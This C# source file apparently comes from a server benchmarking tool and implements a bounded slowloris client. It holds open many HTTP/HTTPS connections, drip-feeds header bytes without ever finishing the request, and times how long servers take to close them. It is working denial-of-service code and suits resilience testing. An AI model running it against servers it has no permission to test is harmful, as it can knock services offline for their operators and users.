using System.Collections.Concurrent;
using System.Diagnostics;
using System.Net.Security;
using System.Net.Sockets;
using System.Text;

namespace WebKnock.Bench.SlowClients;

/// <summary>What the slow clients do: how many, against what, how slowly, for how long.</summary>
/// <param name="Target">The server (http or https; the certificate is not checked).</param>
/// <param name="Connections">Connections kept open at once.</param>
/// <param name="Duration">The whole attack; every connection still open then is closed by the client.</param>
/// <param name="ByteInterval">The time between two bytes of the never-ending request headers.</param>
/// <param name="Reconnect">Open a new connection when the server closes one (the pressure stays the same).</param>
public sealed record SlowClientOptions(Uri Target, int Connections, TimeSpan Duration, TimeSpan ByteInterval, bool Reconnect = true)
{
    public TimeSpan ConnectTimeout { get; init; } = TimeSpan.FromSeconds(10);

    /// <summary>How long the connections take to open at the start (spread evenly), so the first ones do not all time out together.</summary>
    public TimeSpan RampUp { get; init; } = TimeSpan.FromSeconds(2);
}

/// <summary>One slow connection, from the client's side.</summary>
/// <param name="Started">When the connection was begun, from the start of the attack.</param>
/// <param name="Established">TCP (and TLS) made: the request line went out.</param>
/// <param name="ClosedByServerAfter">
/// The time from the request's first byte until the server ended the connection (FIN or reset); null when the client
/// closed it at the end of the attack, or it was never established.
/// </param>
/// <param name="HeaderBytes">Bytes of request headers sent (the request line and Host included).</param>
/// <param name="Answer">The first line the server sent before closing, if any (e.g. <c>HTTP/1.1 408 Request Timeout</c>).</param>
/// <param name="Error">Why it was not established, if it was not.</param>
public sealed record SlowConnection(TimeSpan Started, bool Established, TimeSpan? ClosedByServerAfter, int HeaderBytes, string? Answer, string? Error);

/// <summary>
/// A slowloris: connections that send a request line and then request headers one byte at a time, never the blank
/// line that ends them, so a server without a header timeout keeps every one of them open for ever. Bounded in
/// connections and time; each connection is closed when the attack ends.
/// </summary>
public static class SlowHeaderClients
{
    private static readonly byte[] Filler = Encoding.ASCII.GetBytes("X-Slow-Client: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n");

    public static async Task<IReadOnlyList<SlowConnection>> RunAsync(SlowClientOptions options, CancellationToken cancellationToken = default)
    {
        var clock = Stopwatch.StartNew();
        var outcomes = new ConcurrentBag<SlowConnection>();
        using var end = CancellationTokenSource.CreateLinkedTokenSource(cancellationToken);
        end.CancelAfter(options.Duration);
        var slots = Enumerable.Range(0, options.Connections).Select(async i =>
        {
            var delay = options.Connections > 1 ? options.RampUp * i / (options.Connections - 1) : TimeSpan.Zero;
            try
            {
                await Task.Delay(delay, end.Token);
            }
            catch (OperationCanceledException)
            {
                return;
            }

            while (!end.IsCancellationRequested)
            {
                var outcome = await OneAsync(options, clock, end.Token);
                outcomes.Add(outcome);
                if (!options.Reconnect)
                {
                    break;
                }

                if (!outcome.Established)
                {
                    // Refused or timed out: no hot loop against a server that is not there.
                    try
                    {
                        await Task.Delay(TimeSpan.FromMilliseconds(250), end.Token);
                    }
                    catch (OperationCanceledException)
                    {
                    }
                }
            }
        });
        await Task.WhenAll(slots);
        return [.. outcomes.OrderBy(o => o.Started)];
    }

    private static async Task<SlowConnection> OneAsync(SlowClientOptions options, Stopwatch clock, CancellationToken end)
    {
        var started = clock.Elapsed;
        var target = options.Target;
        using var socket = new Socket(SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        Stream stream;
        try
        {
            using var connect = CancellationTokenSource.CreateLinkedTokenSource(end);
            connect.CancelAfter(options.ConnectTimeout);
            await socket.ConnectAsync(target.Host, target.Port, connect.Token);
            stream = new NetworkStream(socket, ownsSocket: false);
            if (target.Scheme == Uri.UriSchemeHttps)
            {
                var tls = new SslStream(stream, leaveInnerStreamOpen: false);
                await tls.AuthenticateAsClientAsync(new SslClientAuthenticationOptions
                {
                    TargetHost = target.Host,
                    ApplicationProtocols = [SslApplicationProtocol.Http11],
                    RemoteCertificateValidationCallback = (_, _, _, _) => true,
                }, connect.Token);
                stream = tls;
            }
        }
        catch (Exception e) when (e is SocketException or IOException or OperationCanceledException or System.Security.Authentication.AuthenticationException)
        {
            return new SlowConnection(started, false, null, 0, null, end.IsCancellationRequested ? "the attack ended" : e.GetType().Name + ": " + e.Message);
        }

        await using (stream)
        {
            var first = Encoding.ASCII.GetBytes($"GET {target.PathAndQuery} HTTP/1.1\r\nHost: {target.Authority}\r\n");
            var headersStarted = clock.Elapsed;
            var sent = 0;
            var reader = ReadUntilClosedAsync(stream, clock, end);
            try
            {
                await stream.WriteAsync(first, end);
                await stream.FlushAsync(end);
                sent = first.Length;
                while (!reader.IsCompleted)
                {
                    await Task.WhenAny(reader, Task.Delay(options.ByteInterval, end));
                    if (reader.IsCompleted || end.IsCancellationRequested)
                    {
                        break;
                    }

                    await stream.WriteAsync(Filler.AsMemory(sent % Filler.Length, 1), end);
                    await stream.FlushAsync(end);
                    sent++;
                }
            }
            catch (Exception e) when (e is IOException or SocketException or OperationCanceledException or ObjectDisposedException)
            {
                // A write to a connection the server closed; the reader tells when.
            }

            var (closedAt, answer) = await reader;
            return new SlowConnection(started, true, closedAt - headersStarted, sent, answer, null);
        }
    }

    /// <summary>Reads until the server closes (returns when, and the first line it sent) or the attack ends (null).</summary>
    private static async Task<(TimeSpan? ClosedAt, string? Answer)> ReadUntilClosedAsync(Stream stream, Stopwatch clock, CancellationToken end)
    {
        await Task.Yield();
        var buffer = new byte[4096];
        var received = new StringBuilder();
        try
        {
            while (true)
            {
                var n = await stream.ReadAsync(buffer, end);
                if (n == 0)
                {
                    return (clock.Elapsed, FirstLine(received));
                }

                if (received.Length < 200)
                {
                    received.Append(Encoding.ASCII.GetString(buffer, 0, Math.Min(n, 200)));
                }
            }
        }
        catch (OperationCanceledException)
        {
            return (null, FirstLine(received));
        }
        catch (Exception e) when (e is IOException or SocketException or ObjectDisposedException)
        {
            return end.IsCancellationRequested ? (null, FirstLine(received)) : (clock.Elapsed, FirstLine(received) ?? "(reset)");
        }
    }

    private static string? FirstLine(StringBuilder received)
    {
        if (received.Length == 0)
        {
            return null;
        }

        var text = received.ToString();
        var cut = text.IndexOf('\r', StringComparison.Ordinal);
        return cut >= 0 ? text[..cut] : text;
    }
}
